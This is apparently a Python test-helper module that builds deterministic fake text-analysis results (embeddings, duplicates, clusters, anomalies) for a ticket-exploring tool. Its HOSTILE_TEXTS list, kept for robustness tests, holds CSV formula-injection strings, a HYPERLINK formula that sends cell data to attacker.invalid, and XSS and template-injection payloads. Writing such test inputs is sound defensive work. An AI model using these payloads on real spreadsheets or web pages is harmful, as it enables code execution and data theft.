"""Analyses made by hand: small, deterministic, no model and no pipeline.

``make_analysis(["Printer jam", "Printer jam", "VPN down"])`` is an :class:`Analysis` whose vectors are sums of one
fixed random direction per word, so that texts which share words are alike. Give ``vectors`` to plant
exact similarities.
"""

from __future__ import annotations

import hashlib
import re
from collections.abc import Mapping, Sequence
from zlib import crc32

import numpy as np
import pyarrow as pa

from explorer.params import DuplicateParams, Params
from explorer.types import (
    Analysis,
    Anomalies,
    Cleaning,
    Clusters,
    Corpus,
    Distinct,
    Duplicates,
    Embedding,
    Floats,
    Forms,
    Ints,
    Kind,
    Layout,
    Neighbours,
    Pairs,
    ReadReport,
    RejectedRow,
    Roles,
    Typical,
)

DIM = 64

#: Texts that attack whoever shows or opens them; every exporter and page must survive all of them.
HOSTILE_TEXTS: tuple[str, ...] = (
    "=1+1",
    '=HYPERLINK("http://attacker.invalid/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\x00=1+1",
    "nul \x00 inside, escape \x1b[31m, bell \x07, vertical tab \x0b",
    "<script>window.PWNED=1;alert(1)</script>",
    "</script><script>window.PWNED=1</script>",
    "<!--<script>",
    ']]></script><img src=x onerror="window.PWNED=1">',
    "<img src=http://attacker.invalid/i.png onerror=window.PWNED=1>",
    '" onmouseover="window.PWNED=1" x="',
    "' onfocus='window.PWNED=1' autofocus='",
    '<a href="javascript:window.PWNED=1">javascript:window.PWNED=1</a>',
    "![image](http://attacker.invalid/i.png) [link](javascript:alert(1))",
    "$\\href{javascript:window.PWNED=1}{x}$",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} %s %(x)s {0}",
    "http://attacker.invalid/ mailto:a@attacker.invalid internal:'Sheet1'!A1 external:c:/x",
    "lone surrogates \ud800 and \udfff",
    "bidi \u202egnp.exe\u202c \u2066isolated\u2069",
    "emoji 👩‍👩‍👧‍👦 🇺🇳 and combining e\u0301\u0308",
    "two\r\nlines and a lone \r and \u2028 and \u2029",
    'quotes " \'\' "" ; , | and a trailing backslash \\',
    "_x000D_ looks like an escape of XLSX",
    "\ufeffbyte order mark first",
    "\ufffe\uffff not characters",
    "long " + "word " * 8_000,
    "x" * 40_000,
)


def make_analysis(
    texts: Sequence[str],
    *,
    ids: Sequence[str] | None = None,
    vectors: Mapping[str, Sequence[float]] | None = None,
    threshold: float = 0.9,
    mask: bool = False,
    clean: bool = False,
    kind: Kind = "tickets",
    times: Sequence[str] | None = None,
    rejected: Sequence[RejectedRow] = (),
    n_anomalies: int | None = None,
) -> Analysis:
    """An analysis of ``texts``; every shape promised in :mod:`explorer.types` holds.

    ``vectors`` maps a distinct text to its direction (any length, made unit); texts not in it get one from their
    words. With ``mask`` numbers are masked, so that "disk 7 full" and "disk 9 full" are one distinct text; with
    ``clean`` what follows a line "--" does not count.
    ``n_anomalies`` texts are flagged (about one in twenty when None).
    """
    corpus = make_corpus(texts, ids=ids, mask=mask, clean=clean, kind=kind, times=times, rejected=rejected)
    distinct = make_distinct(corpus)
    embedding = make_embedding(distinct, vectors or {})
    neighbours = make_neighbours(embedding.vectors, k=5)
    pairs = make_pairs(embedding.vectors, floor=min(0.7, threshold))
    clusters = make_clusters(distinct, embedding.vectors)
    return Analysis(
        corpus=corpus,
        params=Params(duplicates=DuplicateParams(threshold=threshold, floor=min(0.7, threshold))),
        distinct=distinct,
        embedding=embedding,
        neighbours=neighbours,
        layout=Layout(xy=embedding.vectors[:, :2].astype(np.float32), method="fixed"),
        clusters=clusters,
        pairs=pairs,
        duplicates=make_duplicates(distinct, embedding.vectors, pairs, threshold),
        anomalies=make_anomalies(distinct, neighbours, n_anomalies),
        warnings=(),
        seconds={"read": 0.01, "embed": 0.02},
        peak_memory_bytes=100_000_000,
        versions={"explorer": "0.1.0", "numpy": np.__version__},
        fingerprint=hashlib.sha256(f"{corpus.fingerprint}{threshold}".encode()).hexdigest(),
    )


def make_corpus(
    texts: Sequence[str],
    *,
    ids: Sequence[str] | None = None,
    mask: bool = False,
    clean: bool = False,
    kind: Kind = "tickets",
    times: Sequence[str] | None = None,
    rejected: Sequence[RejectedRow] = (),
) -> Corpus:
    """A corpus as if read from ``tickets.csv``."""
    n = len(texts)
    named = tuple(ids) if ids is not None else tuple(f"T-{row + 1}" for row in range(n))
    report = ReadReport("tickets.csv", "csv", "utf-8", ",", None, n + len(rejected), n, len(rejected))
    columns = {"id": ids, "text": texts, "time": times}
    cells = {name: [_clean(cell) for cell in given] for name, given in columns.items() if given is not None}
    return Corpus(
        ids=named,
        texts=tuple(texts),
        times=None if times is None else np.array(times, dtype="datetime64[ms]"),
        fields=pa.table({name: pa.array(column, type=pa.string()) for name, column in cells.items()}),
        kind=kind,
        mask=mask,
        roles=Roles(
            id="id" if ids is not None else None, text=("text",), time="time" if times else None, categories=()
        ),
        lines=np.arange(2, n + 2, dtype=np.int64),
        sources=np.zeros(n, dtype=np.int64),
        reports=(report,),
        rejected=tuple(rejected),
        fingerprint=hashlib.sha256(repr((texts, named, mask, clean)).encode()).hexdigest(),
        cleaning=Cleaning(Forms()) if clean else None,
    )


def _clean(cell: str) -> str:
    """A cell as a reader keeps it: no lone surrogate, which Arrow cannot hold."""
    return cell.encode("utf-8", "replace").decode()


def make_distinct(corpus: Corpus) -> Distinct:
    """Collapse equal texts (numbers masked and signatures cut where the corpus says so); distinct texts in alphabetical
    order."""
    texts_cut = [text.split("\n--")[0] for text in corpus.texts] if corpus.clean else corpus.texts
    shown = [" ".join(text.split()) for text in texts_cut]
    if corpus.mask:
        shown = [re.sub(r"\d+", "<num>", text) for text in shown]
    texts = sorted({text for text in shown if text})
    index = {text: i for i, text in enumerate(texts)}
    of_row = np.array([index.get(text, -1) for text in shown], dtype=np.int64)
    first = np.array([int(np.flatnonzero(of_row == i)[0]) for i in range(len(texts))], dtype=np.int64)
    counts = np.bincount(of_row[of_row >= 0], minlength=len(texts)).astype(np.int64)
    return Distinct(tuple(texts), counts, of_row, first, int((of_row < 0).sum()))


def make_embedding(distinct: Distinct, planted: Mapping[str, Sequence[float]]) -> Embedding:
    """Unit vectors: planted ones, else the sum of one fixed random direction per word."""
    vectors = np.zeros((distinct.n_texts, DIM), dtype=np.float32)
    for i, text in enumerate(distinct.texts):
        if text in planted:
            given = np.asarray(planted[text], dtype=np.float32)
            vectors[i, : len(given)] = given
        else:
            words = re.findall(r"\w+", text.lower())[:50] or [text[:50]]
            vectors[i] = sum(_direction(word) for word in words)
        vectors[i] /= np.linalg.norm(vectors[i])
    tokens = np.array([max(1, len(text.split())) for text in distinct.texts], dtype=np.int64)
    return Embedding(
        vectors=vectors,
        n_tokens=tokens,
        n_windows=np.maximum(1, -(-tokens // 256)).astype(np.int64),
        unknown_fraction=np.zeros(distinct.n_texts, dtype=np.float32),
        by_letters=np.zeros(distinct.n_texts, dtype=np.bool_),
        model_id="words",
        n_cached=0,
    )


def _direction(word: str) -> Floats:
    rng = np.random.default_rng(crc32(word.encode("utf-8", "surrogatepass")))
    return rng.standard_normal(DIM).astype(np.float32)


def make_neighbours(vectors: Floats, k: int) -> Neighbours:
    """The exact k nearest other texts, highest cosine first, ties by text."""
    d = len(vectors)
    k = max(0, min(k, d - 1))
    cosine = _cosine(vectors)
    np.fill_diagonal(cosine, -2.0)
    order = np.argsort(-cosine, axis=1, kind="stable")[:, :k].astype(np.int64)
    return Neighbours(order, np.take_along_axis(cosine, order, axis=1), "exact", 1.0, d)


def make_pairs(vectors: Floats, floor: float) -> Pairs:
    """All pairs at least ``floor`` alike, most alike first."""
    a, b = np.triu_indices(len(vectors), 1)
    similarity = _cosine(vectors)[a, b]
    keep = similarity >= floor
    a, b, similarity = a[keep].astype(np.int64), b[keep].astype(np.int64), similarity[keep]
    order = np.lexsort((b, a, -similarity))
    return Pairs(a[order], b[order], similarity[order], floor, floor, np.zeros(len(a), dtype=np.bool_))


def make_duplicates(distinct: Distinct, vectors: Floats, pairs: Pairs, threshold: float) -> Duplicates:
    """Leader groups: the most frequent text not yet taken leads, and takes every free text alike enough to it."""
    d = distinct.n_texts
    cosine = _cosine(vectors)
    taken = np.full(d, -1, dtype=np.int64)
    leaders: list[int] = []
    for leader in np.argsort(-distinct.counts, kind="stable"):
        members = np.flatnonzero((taken < 0) & ((cosine[leader] >= threshold) | (np.arange(d) == leader)))
        if taken[leader] < 0 and distinct.counts[members].sum() > 1:
            taken[members] = len(leaders)
            leaders.append(int(leader))
    records = np.array([distinct.counts[taken == g].sum() for g in range(len(leaders))], dtype=np.int64)
    order = np.argsort(-records, kind="stable")
    new_number = np.empty(len(order), dtype=np.int64)
    new_number[order] = np.arange(len(order))
    group = np.where(taken >= 0, new_number[taken] if len(order) else -1, -1).astype(np.int64)
    representative = np.array(leaders, dtype=np.int64)[order]
    similarity = np.zeros(d, dtype=np.float32)
    inside = group >= 0
    similarity[inside] = cosine[np.flatnonzero(inside), representative[group[inside]]]
    similarity[representative] = 1.0
    n_pairs = int((pairs.similarity >= threshold).sum())
    return Duplicates(threshold, group, representative, similarity, records[order], n_pairs, 0)


def make_clusters(distinct: Distinct, vectors: Floats) -> Clusters:
    """Texts at least 0.4 alike to a leader form a cluster when there are three or more of them."""
    d = distinct.n_texts
    cosine = _cosine(vectors)
    label = np.full(d, -1, dtype=np.int64)
    members_of: list[Ints] = []
    for leader in range(d):
        free = np.flatnonzero((label < 0) & (cosine[leader] >= 0.4))
        if label[leader] < 0 and len(free) >= 3:
            label[free] = len(members_of)
            members_of.append(free)
    order = sorted(range(len(members_of)), key=lambda c: (-int(distinct.counts[members_of[c]].sum()), c))
    members_of = [members_of[c] for c in order]
    for new, members in enumerate(members_of):
        label[members] = new
    terms = tuple(tuple(distinct.texts[int(m[0])].split()[:3]) for m in members_of)
    return Clusters(
        label=label,
        strength=(label >= 0).astype(np.float32),
        names=tuple(", ".join(t) for t in terms),
        terms=terms,
        examples=tuple(tuple(int(text) for text in m[:3]) for m in members_of),
        n_records=np.array([distinct.counts[m].sum() for m in members_of], dtype=np.int64),
        n_texts=np.array([len(m) for m in members_of], dtype=np.int64),
    )


def make_anomalies(distinct: Distinct, neighbours: Neighbours, n_anomalies: int | None) -> Anomalies:
    """Strangeness is one minus the mean similarity to the neighbours, brought to 0..1."""
    d = distinct.n_texts
    k = neighbours.texts.shape[1]
    if k:
        strangeness = np.clip((1 - neighbours.similarity.mean(axis=1)) / 2, 0, 1).astype(np.float32)
        nearest, similarity = neighbours.texts[:, 0].copy(), neighbours.similarity[:, 0].copy()
        low, median, high = (float(q) for q in np.quantile(similarity, [0.25, 0.5, 0.75]))
    else:
        strangeness, similarity = np.zeros(d, dtype=np.float32), np.zeros(d, dtype=np.float32)
        nearest, (low, median, high) = np.full(d, -1, dtype=np.int64), (0.0, 0.0, 0.0)
    count = (d // 20 if d >= 5 else 0) if n_anomalies is None else min(n_anomalies, d)
    ranked = np.argsort(-strangeness, kind="stable")[:count].astype(np.int64)
    flagged = np.zeros(d, dtype=np.bool_)
    flagged[ranked] = True
    return Anomalies(
        strangeness=strangeness,
        is_anomaly=flagged,
        cut=None if d < 5 else float(strangeness[ranked[-1]] - 1e-6) if count else 1.0,
        ranked=ranked,
        reasons=tuple(f"Its nearest text is {similarity[i]:.2f} alike; usual here is {median:.2f}." for i in ranked),
        missing_words=tuple(tuple(distinct.texts[i].split()[:2]) for i in ranked),
        nearest=nearest,
        nearest_similarity=similarity,
        typical=Typical(low, median, high),
    )


def _cosine(vectors: Floats) -> Floats:
    return np.round(np.clip(vectors @ vectors.T, -1, 1), 6).astype(np.float32)
